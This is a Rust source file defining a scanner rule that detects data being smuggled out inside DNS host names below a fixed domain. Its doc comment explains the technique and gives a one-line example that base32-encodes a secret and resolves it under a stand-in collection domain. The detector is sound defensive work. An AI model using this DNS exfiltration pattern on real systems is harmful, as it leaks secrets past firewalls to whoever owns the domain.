//! # Data leaves inside the names of hosts
//!
//! ## What it finds
//! Data that was written in letters of an alphabet (hex, base32, base64) becomes part of a host name below a fixed domain,
//! and that name is looked up.
//!
//! ## Why it matters
//! Looking up a name passes almost every firewall, and the resolver hands it on to whoever owns the domain. Nothing has
//! to answer. Probes of internal package names report the machine so; stealers fall back to it where HTTP is blocked.
//!
//! ## Example
//! `socket.gethostbyname(b32encode(secret).decode() + ".collect.example.invalid")`
//!
//! ## What to do
//! Do not use the release. Look for the domain in the logs of the resolver: the names there hold what was taken.
//!
//! ## When it is wrong
//! Lookups of keys and block lists ask for a digest or a turned-around address, which is not reported.
use foretaste_engine::prelude::*;

declare_rule! {
    DataInHostNames,
    id: "data-in-host-names",
    title: "sends data inside host names",
    group: Chain,
    severity: Critical,
    confidence: High,
    needs: [Code],
    tags: ["T1048.003", "T1071.004", "T1132.001"],
    since: "0.1.0",
}

impl ChainRule for DataInHostNames {
    fn judge(&self, chain: &Chain<'_>, _scene: &Scene<'_>) -> Option<Finding> {
        let (source, sink) = (chain.source()?, chain.sink()?);
        let context = chain.context();
        if sink.capability != Capability::NetworkDns
            || chain.flow.link == FlowLink::Scope
            || context > ExecutionContext::Called
            || is_network(source)
        {
            return None;
        }
        let mut steps = chain.flow.steps.iter();
        let written = steps.any(|step| step.capability == Capability::EncodeText);
        if !written || !sink.constant.as_deref().is_some_and(has_label_for_data) {
            return None;
        }
        let mut finding = self
            .finding(format!(
                "sends data inside the names of hosts {}",
                context.phrase()
            ))
            .context(context);
        finding.evidence = chain.evidence(|step| step.api.to_string());
        Some(finding)
    }
}

fn is_network(step: &Step) -> bool {
    step.capability.is_network_source() || step.capability.is_network_sink()
}

/// True for a name with something unknown before a fixed domain.
fn has_label_for_data(name: &str) -> bool {
    let Some((_, domain)) = name.rsplit_once(['}', '…']) else {
        return false;
    };
    domain.strip_prefix('.').is_some_and(|domain| {
        domain.contains('.') && !domain.ends_with(".local") && !domain.contains(['{', '/', ' '])
    })
}
